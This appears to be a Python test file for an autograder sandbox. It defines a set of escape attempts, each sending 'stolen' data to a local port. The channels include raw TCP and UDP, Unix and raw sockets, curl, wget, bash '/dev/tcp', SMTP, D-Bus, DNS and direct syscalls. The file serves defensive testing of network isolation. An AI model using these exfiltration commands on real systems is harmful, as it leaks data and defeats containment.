"""Send what was seen to somebody outside."""

from .case import lazy

TRY = """\
import os, socket, subprocess
def attempt(action):
    try:
        action()
    except (OSError, subprocess.SubprocessError, ImportError):
        return
    print('ESC' + 'APED')
"""
PYTHON = "import socket; socket.create_connection((chr(49) + '27.0.0.1', @PORT@), 1).send(b'stolen')"

CASES = {
    "tcp": lazy(
        "connects by TCP", TRY + "attempt(lambda: socket.create_connection(('127.0.0.1', @PORT@), 1).send(b'stolen'))"
    ),
    "udp": lazy(
        "sends a datagram",
        TRY + "attempt(lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(b'stolen', ('127.0.0.1', @PORT@)))",
    ),
    "ipv6": lazy("connects by IPv6", TRY + "attempt(lambda: socket.socket(socket.AF_INET6).connect(('::1', @PORT@)))"),
    "unix": lazy(
        "connects to a service of the machine",
        TRY + "attempt(lambda: socket.socket(socket.AF_UNIX).connect('@SOCKET@'))",
    ),
    "abstract": lazy(
        "connects to a socket without a file",
        TRY + "attempt(lambda: socket.socket(socket.AF_UNIX).connect('\\0autograder-hostile-@PORT@'))",
    ),
    "pair": lazy(
        "makes a socket out of a pair that it may have",
        TRY + "a, b = socket.socketpair(type=socket.SOCK_DGRAM)\n"
        "attempt(lambda: a.sendto(b'stolen', '@SOCKET@'))\nattempt(lambda: a.sendto(b'stolen', '\\0autograder-hostile-datagrams-@PORT@'))",
    ),
    "raw": lazy(
        "opens raw and kernel sockets",
        TRY
        + "attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))\nattempt(lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW))\nattempt(lambda: socket.socket(getattr(socket, 'AF_VSOCK', 40)))",
    ),
    "subprocess": lazy(
        "lets Python, curl and bash connect",
        TRY + "import sys\n"
        f"attempt(lambda: subprocess.run([sys.executable, '-c', {PYTHON!r}], timeout=2, capture_output=True, check=True))\n"
        "for command in ('curl -s -m 1 http://127.0.0.1:@PORT@/', 'bash -c \"echo stolen > /dev/tcp/127.0.0.1/@PORT@\"', 'wget -T 1 -t 1 http://127.0.0.1:@PORT@/'):\n"
        "    attempt(lambda: subprocess.run(command, shell=True, timeout=2, capture_output=True, check=True))",
    ),
    "asyncio": lazy(
        "connects by asyncio",
        TRY + "import asyncio\nattempt(lambda: asyncio.run(asyncio.open_connection('127.0.0.1', @PORT@)))",
    ),
    "own_descriptor": lazy(
        "makes a connection of the channel itself",
        TRY
        + "for n in range(3, 64):\n    try: s = socket.socket(fileno=os.dup(n))\n    except OSError: continue\n    attempt(lambda: s.sendto(b'stolen', '@SOCKET@'))\n    attempt(lambda: s.connect('@SOCKET@'))",
    ),
    "datagram_by_file": lazy(
        "sends a datagram to a socket with a name",
        TRY
        + "attempt(lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b'stolen', '\\0autograder-hostile-datagrams-@PORT@'))",
    ),
    "fast_open": lazy(
        "sends with the first packet of a connection",
        TRY + "attempt(lambda: socket.socket().sendto(b'stolen', 0x20000000, ('127.0.0.1', @PORT@)))",
    ),
    "mail": lazy(
        "sends a mail, and asks a service of the system",
        TRY
        + "import smtplib, syslog\nattempt(lambda: smtplib.SMTP('127.0.0.1', @PORT@, timeout=1))\nattempt(lambda: open('/dev/log', 'w'))\nattempt(lambda: socket.socket(socket.AF_UNIX).connect('/run/dbus/system_bus_socket'))",
    ),
    "names": lazy(
        "asks for an address",
        TRY
        + "attempt(lambda: socket.getaddrinfo('localhost', 80, proto=socket.IPPROTO_TCP) and socket.gethostbyname('example.org'))",
    ),
    "serves": lazy(
        "waits for somebody to connect",
        TRY
        + "import http.server\nattempt(lambda: http.server.HTTPServer(('0.0.0.0', 0), http.server.SimpleHTTPRequestHandler))",
    ),
    "urllib": lazy(
        "downloads",
        TRY + "import urllib.request\nattempt(lambda: urllib.request.urlopen('http://127.0.0.1:@PORT@/', timeout=1))",
    ),
    "system_calls": lazy(
        "makes the system calls by hand, also those of the 32-bit world",
        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "for number in (41, 425):\n    if libc.syscall(number, 2, 1, 0) >= 0: print('ESC' + 'APED', number)",
    ),
}
